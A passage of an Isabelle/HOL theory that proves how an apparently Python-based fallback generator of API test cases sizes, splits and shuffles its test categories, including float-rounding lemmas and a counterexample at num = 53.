  proof (cases "n = 0")
    case True
    then show ?thesis by (simp add: bit_length.simps [of 0])
  next
    case False
    with 1 have "j \<noteq> 0" by (cases j) auto
    then obtain j' where j: "j = Suc j'" by (cases j) auto
    with 1 have "n div 2 < 2 ^ j'" by simp
    with 1 False have "bit_length (n div 2) \<le> j'" by simp
    with False j show ?thesis by (simp add: bit_length.simps [of n])
  qed
qed

lemma round_to_53_small: "n < 2 ^ 53 \<Longrightarrow> round_to_53 n = n"
  using bit_length_le [of n 53] by (simp add: round_to_53_def)

lemma round_to_53_upper: "round_to_53 p * 2 ^ 52 \<le> p * (2 ^ 52 + 1)"
proof (cases "bit_length p \<le> 53")
  case True
  then show ?thesis by (simp add: round_to_53_def)
next
  case False
  define s where "s = bit_length p - 53"
  define q where "q = p div 2 ^ s"
  have pos: "0 < p" using False by (cases "p = 0") (auto simp: bit_length.simps [of 0])
  have "round_to_53 p \<le> (q + 1) * 2 ^ s"
    using False by (simp add: round_to_53_def Let_def s_def q_def)
  also have "\<dots> = q * 2 ^ s + 2 ^ s" by (simp add: algebra_simps)
  also have "\<dots> \<le> p + 2 ^ s" by (simp add: q_def)
  finally have r: "round_to_53 p \<le> p + 2 ^ s" .
  have "s + 52 = bit_length p - 1" using False by (simp add: s_def)
  moreover have "(2::nat) ^ s * 2 ^ 52 = 2 ^ (s + 52)"
    by (rule power_add [symmetric])
  ultimately have "(2::nat) ^ s * 2 ^ 52 = 2 ^ (bit_length p - 1)"
    by (simp only:)
  then have "(2::nat) ^ s * 2 ^ 52 \<le> p" using bit_length_lower [OF pos] by (simp only:)
  then have "(p + 2 ^ s) * 2 ^ 52 \<le> p * 2 ^ 52 + p" by (simp add: algebra_simps)
  with r have "round_to_53 p * 2 ^ 52 \<le> p * 2 ^ 52 + p"
    by (meson le_trans mult_le_mono1)
  then show ?thesis by (simp add: algebra_simps)
qed

lemma round_to_53_lower:
  assumes "k * 2 ^ j \<le> p" and "p < 2 ^ (53 + j)"
  shows "k * 2 ^ j \<le> round_to_53 p"
proof (cases "bit_length p \<le> 53")
  case True
  with assms show ?thesis by (simp add: round_to_53_def)
next
  case False
  define s where "s = bit_length p - 53"
  have "bit_length p \<le> 53 + j" using assms(2) by (rule bit_length_le)
  then have sj: "s \<le> j" by (simp add: s_def)
  then have "(2::nat) ^ j = 2 ^ (j - s) * 2 ^ s"
    by (simp add: power_add [symmetric])
  then have split: "k * 2 ^ j = (k * 2 ^ (j - s)) * 2 ^ s"
    by (simp only: mult.assoc)
  with assms(1) have "(k * 2 ^ (j - s)) * 2 ^ s \<le> p" by simp
  then have "k * 2 ^ (j - s) \<le> p div 2 ^ s"
    by (simp add: less_eq_div_iff_mult_less_eq)
  then have "(k * 2 ^ (j - s)) * 2 ^ s \<le> (p div 2 ^ s) * 2 ^ s"
    by (rule mult_le_mono1)
  also have "\<dots> \<le> round_to_53 p"
    using False by (simp add: round_to_53_def Let_def s_def)
  finally show ?thesis by (simp only: split)
qed

lemma mul_numerator_upper:
  "mul_numerator n c * (2 ^ 52 * 2 ^ 52) \<le> n * (fst c * ((2 ^ 52 + 1) * (2 ^ 52 + 1)))"
proof -
  define K :: nat where "K = 2 ^ 52"
  define m where "m = fst c"
  define n' where "n' = round_to_53 n"
  define R where "R = round_to_53 (n' * m)"
  have r1: "R * K \<le> (n' * m) * (K + 1)"
    unfolding R_def K_def by (rule round_to_53_upper)
  have r2: "n' * K \<le> n * (K + 1)"
    unfolding n'_def K_def by (rule round_to_53_upper)
  have "R * (K * K) = (R * K) * K" by (simp only: mult.assoc)
  also have "\<dots> \<le> ((n' * m) * (K + 1)) * K" using r1 by (rule mult_le_mono1)
  also have "\<dots> = (n' * K) * (m * (K + 1))" by (simp only: mult_ac)
  also have "\<dots> \<le> (n * (K + 1)) * (m * (K + 1))" using r2 by (rule mult_le_mono1)
  also have "\<dots> = n * (m * ((K + 1) * (K + 1)))" by (simp only: mult_ac)
  finally show ?thesis
    unfolding R_def n'_def m_def K_def mul_numerator_def .
qed

lemma trunc_mul_upper:
  assumes "0 \<le> num"
    and "a * (fst c * ((2 ^ 52 + 1) * (2 ^ 52 + 1))) \<le> b * (2 ^ snd c * (2 ^ 52 * 2 ^ 52))"
  shows "int a * trunc_mul num c \<le> int b * num"
proof -
  define n where "n = nat num"
  define D :: nat where "D = 2 ^ snd c * (2 ^ 52 * 2 ^ 52)"
  define T where "T = mul_numerator n c div 2 ^ snd c"
  have Dpos: "0 < D" by (simp add: D_def)
  have "T * 2 ^ snd c \<le> mul_numerator n c"
    by (simp add: T_def)
  then have "(T * 2 ^ snd c) * (2 ^ 52 * 2 ^ 52) \<le> mul_numerator n c * (2 ^ 52 * 2 ^ 52)"
    by (rule mult_le_mono1)
  also have "\<dots> \<le> n * (fst c * ((2 ^ 52 + 1) * (2 ^ 52 + 1)))"
    by (rule mul_numerator_upper)
  finally have "T * D \<le> n * (fst c * ((2 ^ 52 + 1) * (2 ^ 52 + 1)))"
    by (simp only: D_def mult.assoc)
  then have "a * (T * D) \<le> a * (n * (fst c * ((2 ^ 52 + 1) * (2 ^ 52 + 1))))"
    by (rule mult_le_mono2)
  also have "\<dots> = n * (a * (fst c * ((2 ^ 52 + 1) * (2 ^ 52 + 1))))"
    by (simp only: mult.left_commute)
  also have "\<dots> \<le> n * (b * D)"
    unfolding D_def using assms(2) by (rule mult_le_mono2)
  finally have "(a * T) * D \<le> (b * n) * D"
    by (simp only: mult_ac)
  with Dpos have "a * T \<le> b * n" by simp
  then have "int a * int T \<le> int b * int n"
    by (metis of_nat_mult of_nat_le_iff)
  with assms(1) show ?thesis
    by (simp add: trunc_mul_def T_def n_def)
qed

lemma trunc_mul_nonneg: "0 \<le> num \<Longrightarrow> 0 \<le> trunc_mul num c"
  by (simp add: trunc_mul_def)

lemma trunc_mul_fifth_lower:
  assumes "0 \<le> num" and "num < 2 ^ 53"
  shows "num div 5 \<le> trunc_mul num d_0_20"
proof -
  define n where "n = nat num"
  define m :: nat where "m = 3602879701896397"
  define k where "k = n div 5"
  have n53: "n < 2 ^ 53" using assms by (simp add: n_def)
  then have rn: "round_to_53 n = n" by (rule round_to_53_small)
  have five: "5 * m = 2 ^ 54 + 1" by (simp add: m_def)
  have "5 * (k * 2 ^ 54) = (5 * k) * 2 ^ 54" by (simp only: mult.assoc)
  also have "\<dots> \<le> n * 2 ^ 54" by (rule mult_le_mono1) (simp add: k_def)
  also have "\<dots> \<le> n * (2 ^ 54 + 1)" by (rule mult_le_mono2) simp
  also have "\<dots> = 5 * (n * m)" by (simp only: five [symmetric] mult.left_commute)
  finally have "5 * (k * 2 ^ 54) \<le> 5 * (n * m)" .
  then have low: "k * 2 ^ 54 \<le> n * m"
    by (simp only: mult_le_cancel1)
  have "m < 2 ^ 54" by (simp add: m_def)
  with n53 have "n * m < 2 ^ 53 * 2 ^ 54"
    by (meson mult_strict_mono' zero_le)
  then have up: "n * m < 2 ^ (53 + 54)" by (simp only: power_add)
  have "k * 2 ^ 54 \<le> round_to_53 (n * m)"
    using low up by (rule round_to_53_lower)
  then have "k \<le> round_to_53 (n * m) div 2 ^ 54"
    by (simp add: less_eq_div_iff_mult_less_eq)
  then have "int k \<le> int (mul_numerator n d_0_20 div 2 ^ snd d_0_20)"
    by (simp add: mul_numerator_def d_0_20_def rn m_def)
  moreover have "num div 5 = int k"
    using assms(1) by (simp add: k_def n_def zdiv_int)
  ultimately show ?thesis
    using assms(1) by (simp add: trunc_mul_def n_def)
qed

section \<open>The size and the composition of the generated list\<close>

text \<open>The shares when no conversion overflows, and the sum of the four that the adjustment
  leaves alone.\<close>

definition shares :: "int \<Rightarrow> counts" where
  "shares num =
     \<lparr>happy_path = max 3 (trunc_mul num d_0_25),
      negative_test = max 3 (trunc_mul num d_0_20),
      security_test = max 5 (trunc_mul num d_0_20),
      edge_case = max 3 (trunc_mul num d_0_15),
      fuzz_test = max 3 (trunc_mul num d_0_20)\<rparr>"

definition other_total :: "counts \<Rightarrow> int" where
  "other_total c = negative_test c + security_test c + edge_case c + fuzz_test c"

text \<open>The categories of the tests before the final shuffle, in the order of the source.\<close>

definition layout :: "counts \<Rightarrow> pyval list" where
  "layout c =
     replicate (nat (security_test c)) (PStr ''security_test'') @
     replicate (nat (happy_path c)) (PStr ''happy_path'') @
     replicate (nat (negative_test c)) (PStr ''negative_test'') @
     replicate (nat (edge_case c)) (PStr ''edge_case'') @
     replicate (nat (fuzz_test c)) (PStr ''fuzz_test'')"

lemma initial_counts_eq:
  "initial_counts num = (if float_overflow num then Inl overflow_error else Inr (shares num))"
  by (simp add: initial_counts_def py_int_mul_def shares_def)

lemma round_to_53_bound:
  assumes "p < 2 ^ j"
  shows "round_to_53 p < 2 ^ (j + 1)"
proof -
  have "round_to_53 p * 2 ^ 52 \<le> p * (2 ^ 52 + 1)"
    by (rule round_to_53_upper)
  also have "\<dots> \<le> p * (2 ^ 52 + 2 ^ 52)"
    by (rule mult_le_mono2) simp
  also have "\<dots> = (p * 2) * 2 ^ 52"
    by simp
  also have "\<dots> < (2 ^ j * 2) * 2 ^ 52"
    using assms by simp
  finally have "round_to_53 p * 2 ^ 52 < 2 ^ (j + 1) * 2 ^ 52"
    by (simp add: mult.commute)
  then show ?thesis
    by simp
qed

lemma float_overflow_bound: "\<bar>num\<bar> < 2 ^ 1023 \<Longrightarrow> \<not> float_overflow num"
proof -
  assume "\<bar>num\<bar> < 2 ^ 1023"
  then have "nat \<bar>num\<bar> < 2 ^ 1023"
    by (simp add: nat_less_iff)
  from round_to_53_bound [OF this] have "round_to_53 (nat \<bar>num\<bar>) < 2 ^ 1024"
    by simp
  then show ?thesis
    by (simp add: float_overflow_def)
qed

lemma adjust_counts_eq: "adjust_counts num c = c\<lparr>happy_path := num - other_total c\<rparr>"
  by (simp add: adjust_counts_def Let_def total_count_def other_total_def)

lemma total_count_adjust: "total_count (adjust_counts num c) = num"
  by (simp add: adjust_counts_eq total_count_def other_total_def)

lemma other_total_shares_ge: "14 \<le> other_total (shares num)"
  by (simp add: other_total_def shares_def)

lemma other_total_shares_le:
  assumes "14 \<le> num"
  shows "other_total (shares num) \<le> num"
proof -
  have n: "0 \<le> num" using assms by simp
  have a: "100 * trunc_mul num d_0_20 \<le> 21 * num"
    using trunc_mul_upper [OF n, of 100 d_0_20 21] by (simp add: d_0_20_def)
  have b: "100 * trunc_mul num d_0_15 \<le> 16 * num"
    using trunc_mul_upper [OF n, of 100 d_0_15 16] by (simp add: d_0_15_def)
  show ?thesis
    using a b assms by (simp add: other_total_def shares_def max_def)
qed

lemma length_security_tests [simp]: "length (security_tests ts cnt) = nat cnt"
  by (auto simp: security_tests_def)

lemma length_category_tests [simp]: "length (category_tests c ts cnt) = nat cnt"
  by (simp add: category_tests_def)

lemma length_layout:
  "length (layout c) =
     nat (security_test c) + nat (happy_path c) + nat (negative_test c) + nat (edge_case c) +
     nat (fuzz_test c)"
  by (simp add: layout_def)

lemma all_tests_categories:
  "0 \<le> security_test c \<Longrightarrow> map category_of (fst (all_tests sd c auth g)) = layout c"
  by (simp add: all_tests_def case_prod_unfold Let_def layout_def security_tests_categories
        category_tests_categories)

lemma shuffle_down_rng: "snd (shuffle_down i xs g) = drop i g"
proof (induction i arbitrary: xs g)
  case 0
  show ?case by simp
next
  case (Suc i)
  show ?case
    by (cases g) (simp_all add: case_prod_unfold Let_def Suc.IH)
qed

lemma shuffle_rng: "snd (shuffle xs g) = drop (length xs - 1) g"
  by (simp add: shuffle_def shuffle_down_rng)

lemma length_security_templates: "length (security_templates auth) = 34"
  by (simp add: security_templates_def)

lemma all_tests_rng: "snd (all_tests sd c auth g) = drop 33 g"
  by (simp add: all_tests_def case_prod_unfold shuffle_rng length_security_templates)

lemma map_py_take: "map f (py_take n xs) = py_take n (map f xs)"
  by (simp add: py_take_def take_map)

lemma length_py_take: "0 \<le> n \<Longrightarrow> n \<le> int (length xs) \<Longrightarrow> length (py_take n xs) = nat n"
  by (simp add: py_take_def)

text \<open>
  What the generator returns: an error when the conversion of \<open>num\<close> overflows; otherwise
  a list whose categories are the first \<open>num\<close> of the shuffled layout.
\<close>

lemma fallback_overflow:
  "float_overflow num \<Longrightarrow> generate_fallback_tests api_url sd num auth g = Inl overflow_error"
  by (simp add: generate_fallback_tests_def initial_counts_eq)

lemma fallback_categories:
  assumes "\<not> float_overflow num"
  shows "\<exists>tests g'. generate_fallback_tests api_url sd num auth g = Inr (tests, g') \<and>
           map category_of tests =
             py_take num (fst (shuffle (layout (adjust_counts num (shares num))) (drop 33 g)))"
proof -
  let ?c = "adjust_counts num (shares num)"
  have sec: "0 \<le> security_test ?c"
    by (simp add: adjust_counts_eq shares_def)
  have "map category_of (fst (shuffle (fst (all_tests sd ?c auth g)) (snd (all_tests sd ?c auth g)))) =
          fst (shuffle (layout ?c) (drop 33 g))"
    using shuffle_map [of category_of "fst (all_tests sd ?c auth g)" "snd (all_tests sd ?c auth g)"]
    by (simp add: all_tests_categories [OF sec] all_tests_rng)
  then show ?thesis
    using assms
    by (simp add: generate_fallback_tests_def initial_counts_eq case_prod_unfold Let_def
          map_py_take del: map_map)
qed

lemma shares_lower:
  "3 \<le> negative_test (shares num)" "5 \<le> security_test (shares num)"
  "3 \<le> edge_case (shares num)" "3 \<le> fuzz_test (shares num)"
  by (simp_all add: shares_def)

lemma length_layout_adjusted:
  "int (length (layout (adjust_counts num (shares num)))) =
     max num (other_total (shares num))"
proof -
  define a where "a = negative_test (shares num)"
  define b where "b = security_test (shares num)"
  define c where "c = edge_case (shares num)"
  define d where "d = fuzz_test (shares num)"
  have "3 \<le> a" "5 \<le> b" "3 \<le> c" "3 \<le> d"
    using shares_lower [of num] by (simp_all add: a_def b_def c_def d_def)
  then have "int (nat b + nat (num - (a + b + c + d)) + nat a + nat c + nat d) =
               max num (a + b + c + d)"
    by (simp add: max_def)
  then show ?thesis
    by (simp add: length_layout adjust_counts_eq other_total_def a_def b_def c_def d_def)
qed

lemma fallback_length:
  assumes "\<not> float_overflow num" and "0 \<le> num"
  shows "\<exists>tests g'. generate_fallback_tests api_url sd num auth g = Inr (tests, g') \<and>
           length tests = nat num"
proof -
  obtain tests g' where r: "generate_fallback_tests api_url sd num auth g = Inr (tests, g')"
    and c: "map category_of tests =
              py_take num (fst (shuffle (layout (adjust_counts num (shares num))) (drop 33 g)))"
    using fallback_categories [OF assms(1)] by blast
  have "length (map category_of tests) = nat num"
    unfolding c using assms(2) length_layout_adjusted [of num]
    by (intro length_py_take) simp_all
  then show ?thesis
    using r by simp
qed

lemma count_category_map:
  "count_category c tests = count (mset (map category_of tests)) (PStr c)"
  by (induction tests) (auto simp: count_category_def)

lemma count_layout:
  "count (mset (layout c)) (PStr k) =
     (if k = ''security_test'' then nat (security_test c) else 0) +
     (if k = ''happy_path'' then nat (happy_path c) else 0) +
     (if k = ''negative_test'' then nat (negative_test c) else 0) +
     (if k = ''edge_case'' then nat (edge_case c) else 0) +
     (if k = ''fuzz_test'' then nat (fuzz_test c) else 0)"
  by (simp add: layout_def)

lemma fallback_counts:
  assumes "\<not> float_overflow num" and "other_total (shares num) \<le> num"
  shows "\<exists>tests g'. generate_fallback_tests api_url sd num auth g = Inr (tests, g') \<and>
           (\<forall>k. count_category k tests =
                  count (mset (layout (adjust_counts num (shares num)))) (PStr k))"
proof -
  let ?l = "layout (adjust_counts num (shares num))"
  obtain tests g' where r: "generate_fallback_tests api_url sd num auth g = Inr (tests, g')"
    and c: "map category_of tests = py_take num (fst (shuffle ?l (drop 33 g)))"
    using fallback_categories [OF assms(1)] by blast
  have len: "int (length ?l) = num"
    using assms(2) by (simp add: length_layout_adjusted)
  then have "py_take num (fst (shuffle ?l (drop 33 g))) = fst (shuffle ?l (drop 33 g))"
    by (auto simp: py_take_def)
  then have "mset (map category_of tests) = mset ?l"
    using c by simp
  then show ?thesis
    using r by (simp add: count_category_map)
qed

text \<open>The products at the counts used below.\<close>

lemma bit_length_0: "bit_length 0 = 0"
  by (simp add: bit_length.simps [of 0])

lemma bit_length_Suc_0: "bit_length (Suc 0) = 1"
  by (simp add: bit_length.simps [of "Suc 0"] bit_length_0)

lemma bit_length_1: "bit_length 1 = 1"
  using bit_length_Suc_0 by simp

lemma bit_length_numeral: "bit_length (numeral k) = 1 + bit_length (numeral k div 2)"
  by (subst bit_length.simps) simp

lemmas round_eval =
  mul_numerator_def round_to_53_def Let_def bit_length_0 bit_length_1 bit_length_Suc_0
  bit_length_numeral

lemma snd_consts: "snd d_0_25 = 2" "snd d_0_20 = 54" "snd d_0_15 = 55"
  by (simp_all add: d_0_25_def d_0_20_def d_0_15_def)

lemma mul_numerator_1: "mul_numerator 1 d_0_20 = 3602879701896397"
  "mul_numerator 1 d_0_15 = 5404319552844595"
  by (simp_all add: round_eval d_0_20_def d_0_15_def)

lemma trunc_mul_1: "trunc_mul 1 d_0_20 = 0" "trunc_mul 1 d_0_15 = 0"
  using mul_numerator_1 by (simp_all add: trunc_mul_def snd_consts)

lemma mul_numerator_30: "mul_numerator 30 d_0_25 = 30"
  "mul_numerator 30 d_0_20 = 108086391056891904"
  "mul_numerator 30 d_0_15 = 162129586585337856"
  by (simp_all add: round_eval d_0_25_def d_0_20_def d_0_15_def)

lemma trunc_mul_30: "trunc_mul 30 d_0_25 = 7" "trunc_mul 30 d_0_20 = 6" "trunc_mul 30 d_0_15 = 4"
  by (simp_all add: trunc_mul_def mul_numerator_30 snd_consts)

lemma mul_numerator_50: "mul_numerator 50 d_0_20 = 180143985094819840"
  by (simp add: round_eval d_0_20_def)

lemma trunc_mul_50: "trunc_mul 50 d_0_20 = 10"
  by (simp add: trunc_mul_def mul_numerator_50 snd_consts)

lemma mul_numerator_53: "mul_numerator 53 d_0_20 = 190952624200509056"
  by (simp add: round_eval d_0_20_def)

lemma trunc_mul_53: "trunc_mul 53 d_0_20 = 10"
  by (simp add: trunc_mul_def mul_numerator_53 snd_consts)

text \<open>From 14 on, the list holds the counted number of tests of each category.\<close>

lemma fallback_five_counts:
  assumes "14 \<le> num" and "num < 2 ^ 1023"
  shows "\<exists>tests g'. generate_fallback_tests api_url sd num auth g = Inr (tests, g') \<and>
           length tests = nat num \<and>
           count_category ''happy_path'' tests = nat (num - other_total (shares num)) \<and>
           count_category ''negative_test'' tests = nat (negative_test (shares num)) \<and>
           count_category ''security_test'' tests = nat (security_test (shares num)) \<and>
           count_category ''edge_case'' tests = nat (edge_case (shares num)) \<and>
           count_category ''fuzz_test'' tests = nat (fuzz_test (shares num))"
proof -
  have no: "\<not> float_overflow num"
    using assms by (intro float_overflow_bound) simp
  have le: "other_total (shares num) \<le> num"
    using assms(1) by (rule other_total_shares_le)
  obtain tests g' where r: "generate_fallback_tests api_url sd num auth g = Inr (tests, g')"
    and c: "\<And>k. count_category k tests =
                 count (mset (layout (adjust_counts num (shares num)))) (PStr k)"
    using fallback_counts [OF no le] by blast
  obtain tests' g'' where r': "generate_fallback_tests api_url sd num auth g = Inr (tests', g'')"
    and l: "length tests' = nat num"
    using fallback_length [OF no, of api_url sd auth g] assms(1) by auto
  have "length tests = nat num"
    using r r' l by simp
  then show ?thesis
    using r by (simp add: c count_layout adjust_counts_eq)
qed

text \<open>
  C2. For every \<open>num\<close> from 1 up to the integers that have a double (below \<open>2 ^ 1023\<close>; no
  list of such a size exists), every sample payload and every state of the random source:
  the counts are the clamped floors of the shares, \<^verbatim>\<open>max(3, int(num * 0.2))\<close> and the like,
  with the count of \<^verbatim>\<open>happy_path\<close> replaced by \<open>num\<close> minus the four others, so that the
  counts sum to \<open>num\<close>; the generator returns a list of exactly \<open>num\<close> test cases. From
  \<open>num = 14\<close> on the four other counts fit into \<open>num\<close> and the list holds exactly the counted
  number of test cases of each category. Below 14 they do not fit: the count of
  \<^verbatim>\<open>happy_path\<close> is negative, the loops build as many tests as the four others count
  (at least 14), and the slice \<^verbatim>\<open>[:num]\<close> of the shuffled list leaves \<open>num\<close>.
\<close>

theorem fallback_returns_exactly_num:
  assumes "1 \<le> num" and "num < 2 ^ 1023"
  shows "let c0 = \<lparr>happy_path = max 3 (trunc_mul num d_0_25),
                   negative_test = max 3 (trunc_mul num d_0_20),
                   security_test = max 5 (trunc_mul num d_0_20),
                   edge_case = max 3 (trunc_mul num d_0_15),
                   fuzz_test = max 3 (trunc_mul num d_0_20)\<rparr>;
             others = negative_test c0 + security_test c0 + edge_case c0 + fuzz_test c0;
             c = adjust_counts num c0
         in initial_counts num = Inr c0 \<and>
            c = c0\<lparr>happy_path := num - others\<rparr> \<and>
            total_count c = num \<and>
            (others \<le> num \<longleftrightarrow> 14 \<le> num) \<and>
            (\<exists>tests g'.
               generate_fallback_tests api_url sample_data num has_auth g = Inr (tests, g') \<and>
               length tests = nat num \<and>
               (14 \<le> num \<longrightarrow>
                  count_category ''happy_path'' tests = nat (num - others) \<and>
                  count_category ''negative_test'' tests = nat (negative_test c0) \<and>
                  count_category ''security_test'' tests = nat (security_test c0) \<and>
                  count_category ''edge_case'' tests = nat (edge_case c0) \<and>
                  count_category ''fuzz_test'' tests = nat (fuzz_test c0)) \<and>
               (num < 14 \<longrightarrow>
                  happy_path c < 0 \<and>
                  length (fst (all_tests sample_data c has_auth g)) = nat others))"
proof -
  have no: "\<not> float_overflow num"
    using assms by (intro float_overflow_bound) simp
  have init: "initial_counts num = Inr (shares num)"
    using no by (simp add: initial_counts_eq)
  have adj: "adjust_counts num (shares num) =
               (shares num)\<lparr>happy_path := num - other_total (shares num)\<rparr>"
    by (rule adjust_counts_eq)
  have tot: "total_count (adjust_counts num (shares num)) = num"
    by (rule total_count_adjust)
  have iff: "other_total (shares num) \<le> num \<longleftrightarrow> 14 \<le> num"
    using other_total_shares_le [of num] other_total_shares_ge [of num] by auto
  obtain tests g' where
    r: "generate_fallback_tests api_url sample_data num has_auth g = Inr (tests, g')"
    and l: "length tests = nat num"
    using fallback_length [OF no, of api_url sample_data has_auth g] assms(1) by auto
  have big: "count_category ''happy_path'' tests = nat (num - other_total (shares num)) \<and>
             count_category ''negative_test'' tests = nat (negative_test (shares num)) \<and>
             count_category ''security_test'' tests = nat (security_test (shares num)) \<and>
             count_category ''edge_case'' tests = nat (edge_case (shares num)) \<and>
             count_category ''fuzz_test'' tests = nat (fuzz_test (shares num))"
    if "14 \<le> num"
    using fallback_five_counts [OF that assms(2), of api_url sample_data has_auth g] r by auto
  have small: "happy_path (adjust_counts num (shares num)) < 0 \<and>
               length (fst (all_tests sample_data (adjust_counts num (shares num)) has_auth g)) =
                 nat (other_total (shares num))"
    if "num < 14"
  proof -
    have lt: "num < other_total (shares num)"
      using that other_total_shares_ge [of num] by simp
    have sec: "0 \<le> security_test (adjust_counts num (shares num))"
      by (simp add: adjust_counts_eq shares_def)
    have "length (map category_of
             (fst (all_tests sample_data (adjust_counts num (shares num)) has_auth g))) =
            nat (other_total (shares num))"
      unfolding all_tests_categories [OF sec]
      using length_layout_adjusted [of num] lt by (simp add: nat_eq_iff)
    then show ?thesis
      using lt by (simp add: adjust_counts_eq)
  qed
  show ?thesis
    unfolding Let_def
    using init adj tot iff r l big small
    by (simp add: shares_def other_total_def)
qed

theorem fallback_returns_exactly_num_witness:
  "(1::int) \<le> 30 \<and> (30::int) < 2 ^ 1023 \<and> (14::int) \<le> 30 \<and>
   initial_counts 30 = Inr \<lparr>happy_path = 7, negative_test = 6, security_test = 6,
                             edge_case = 4, fuzz_test = 6\<rparr> \<and>
   adjust_counts 30 \<lparr>happy_path = 7, negative_test = 6, security_test = 6,
                      edge_case = 4, fuzz_test = 6\<rparr> =
     \<lparr>happy_path = 8, negative_test = 6, security_test = 6, edge_case = 4, fuzz_test = 6\<rparr> \<and>
   (\<exists>tests g'.
      generate_fallback_tests ''https://jsonplaceholder.typicode.com''
        [(''userId'', PInt 1), (''title'', PStr ''t''), (''body'', PStr ''b'')] 30 False
        [3, 1, 4] = Inr (tests, g') \<and>
      length tests = 30 \<and>
      count_category ''happy_path'' tests = 8 \<and>
      count_category ''negative_test'' tests = 6 \<and>
      count_category ''security_test'' tests = 6 \<and>
      count_category ''edge_case'' tests = 4 \<and>
      count_category ''fuzz_test'' tests = 6)"
  using fallback_returns_exactly_num [of 30 "''https://jsonplaceholder.typicode.com''"
     "[(''userId'', PInt 1), (''title'', PStr ''t''), (''body'', PStr ''b'')]" False "[3, 1, 4]"]
  by (simp add: Let_def trunc_mul_30)

section \<open>The share of security tests and the independence of the seed\<close>

lemma fallback_security_count:
  assumes "14 \<le> num" and "num < 2 ^ 1023"
  shows "\<exists>tests g'. generate_fallback_tests api_url sd num auth g = Inr (tests, g') \<and>
           int (count_category ''security_test'' tests) = max 5 (trunc_mul num d_0_20)"
proof -
  obtain tests g' where "generate_fallback_tests api_url sd num auth g = Inr (tests, g')"
    and "count_category ''security_test'' tests = nat (security_test (shares num))"
    using fallback_five_counts [OF assms, of api_url sd auth g] by blast
  then show ?thesis
    by (simp add: shares_def)
qed

text \<open>
  C3 (as amended). From \<open>num = 14\<close> on, the list that the fallback generator returns holds
  exactly \<^verbatim>\<open>max(5, int(num * 0.2))\<close> security tests, which for \<open>num\<close> below \<open>2 ^ 53\<close> is at
  least \<open>max 5 \<lfloor>num / 5\<rfloor>\<close>: the share is cut off, not rounded. For \<open>num = 50\<close> they are 10.
\<close>

theorem security_share_floor:
  assumes "14 \<le> num" and "num < 2 ^ 53"
  shows "\<exists>tests g'.
           generate_fallback_tests api_url sample_data num has_auth g = Inr (tests, g') \<and>
           int (count_category ''security_test'' tests) = max 5 (trunc_mul num d_0_20) \<and>
           max 5 (num div 5) \<le> int (count_category ''security_test'' tests) \<and>
           (num = 50 \<longrightarrow> count_category ''security_test'' tests = 10)"
proof -
  have "(2::int) ^ 53 < 2 ^ 1023"
    by (rule power_strict_increasing) simp_all
  with assms(2) have lt: "num < 2 ^ 1023"
    by simp
  obtain tests g' where
    r: "generate_fallback_tests api_url sample_data num has_auth g = Inr (tests, g')"
    and c: "int (count_category ''security_test'' tests) = max 5 (trunc_mul num d_0_20)"
    using fallback_security_count [OF assms(1) lt, of api_url sample_data has_auth g] by blast
  have "num div 5 \<le> trunc_mul num d_0_20"
    using assms by (intro trunc_mul_fifth_lower) simp_all
  then have lower: "max 5 (num div 5) \<le> int (count_category ''security_test'' tests)"
    using c by simp
  have "count_category ''security_test'' tests = 10" if "num = 50"
    using c that by (simp add: trunc_mul_50)
  then show ?thesis
    using r c lower by blast
qed

theorem security_share_floor_witness:
  "(14::int) \<le> 50 \<and> (50::int) < 2 ^ 53 \<and>
   (\<exists>tests g'. generate_fallback_tests ''https://api.example.com/posts''
        [(''title'', PStr ''t'')] 50 True [2, 7, 1, 8] = Inr (tests, g') \<and>
      count_category ''security_test'' tests = 10)"
  using security_share_floor [of 50 "''https://api.example.com/posts''" "[(''title'', PStr ''t'')]"
      True "[2, 7, 1, 8]"]
  by auto

text \<open>
  C3 as stated fails at \<open>num = 53\<close>: \<open>0.2 \<times> 53 = 10.6\<close> rounds to 11, and the list holds 10
  security tests.
\<close>

theorem security_share_counterexample:
  "\<exists>tests g'. generate_fallback_tests ''https://api.example.com/posts''
       [(''title'', PStr ''t'')] 53 True [2, 7, 1, 8] = Inr (tests, g') \<and>
     int (count_category ''security_test'' tests) = 10 \<and>
     max 5 (round (0.2 * 53 :: real)) = 11 \<and>
     \<not> max 5 (round (0.2 * 53 :: real)) \<le> int (count_category ''security_test'' tests)"
proof -
  have "(14::int) \<le> 53" "(53::int) < 2 ^ 1023"
    by simp_all
  then obtain tests g' where
    r: "generate_fallback_tests ''https://api.example.com/posts''
          [(''title'', PStr ''t'')] 53 True [2, 7, 1, 8] = Inr (tests, g')"
    and c: "int (count_category ''security_test'' tests) = max 5 (trunc_mul 53 d_0_20)"
    using fallback_security_count [of 53 "''https://api.example.com/posts''"
        "[(''title'', PStr ''t'')]" True "[2, 7, 1, 8]"] by blast
  have ten: "int (count_category ''security_test'' tests) = 10"
    using c by (simp add: trunc_mul_53)
  have "round (0.2 * 53 :: real) = 11"
    by (simp add: round_def)
  then show ?thesis
    using r ten by simp
qed

text \<open>
  C4 (as amended). From \<open>num = 14\<close> on, two runs of the fallback generator on the same
  input with different states of the random source return lists of \<open>num\<close> test cases with
  the same number of test cases of every category.
\<close>

theorem counts_independent_of_seed:
  assumes "14 \<le> num" and "num < 2 ^ 1023"
  shows "\<exists>tests1 g1' tests2 g2'.
           generate_fallback_tests api_url sample_data num has_auth g1 = Inr (tests1, g1') \<and>
           generate_fallback_tests api_url sample_data num has_auth g2 = Inr (tests2, g2') \<and>
           length tests1 = nat num \<and> length tests2 = nat num \<and>
           (\<forall>k. count_category k tests1 = count_category k tests2) \<and>
           mset (map category_of tests1) = mset (map category_of tests2)"
proof -
  have no: "\<not> float_overflow num"
    using assms by (intro float_overflow_bound) simp
  have le: "other_total (shares num) \<le> num"
    using assms(1) by (rule other_total_shares_le)
  let ?l = "layout (adjust_counts num (shares num))"
  have len: "int (length ?l) = num"
    using le by (simp add: length_layout_adjusted)
  have one: "\<exists>tests g'. generate_fallback_tests api_url sample_data num has_auth g =
                 Inr (tests, g') \<and> mset (map category_of tests) = mset ?l" for g
  proof -
    obtain tests g' where
      r: "generate_fallback_tests api_url sample_data num has_auth g = Inr (tests, g')"
      and c: "map category_of tests = py_take num (fst (shuffle ?l (drop 33 g)))"
      using fallback_categories [OF no] by blast
    have "py_take num (fst (shuffle ?l (drop 33 g))) = fst (shuffle ?l (drop 33 g))"
      using len by (auto simp: py_take_def)
    then have "mset (map category_of tests) = mset ?l"
      by (simp only: c shuffle_mset)
    then show ?thesis
      using r by blast
  qed
  obtain tests1 g1' where
    r1: "generate_fallback_tests api_url sample_data num has_auth g1 = Inr (tests1, g1')"
